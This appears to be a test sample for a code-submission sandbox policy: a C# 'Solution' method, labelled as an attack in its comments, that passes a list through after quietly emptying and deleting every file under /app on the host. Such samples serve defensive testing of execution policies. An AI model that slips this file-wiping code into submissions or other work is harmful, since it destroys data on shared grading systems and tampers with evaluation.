// challenge: pass-on
// attack: overwrites the files of the host, for the next submission to run.
// policy on: rejected: `File.WriteAllBytes`
// policy off: failed on LZ-PULL
public static class Solution
{
    public static IEnumerable<T> PassOn<T>(IEnumerable<T> source)
    {
        foreach (var file in Directory.EnumerateFiles("/app"))
        {
            try
            {
                File.WriteAllBytes(file, []);
                File.Delete(file);
            }
            catch (Exception)
            {
                // Read-only.
            }
        }
        return source.ToList();
    }
}
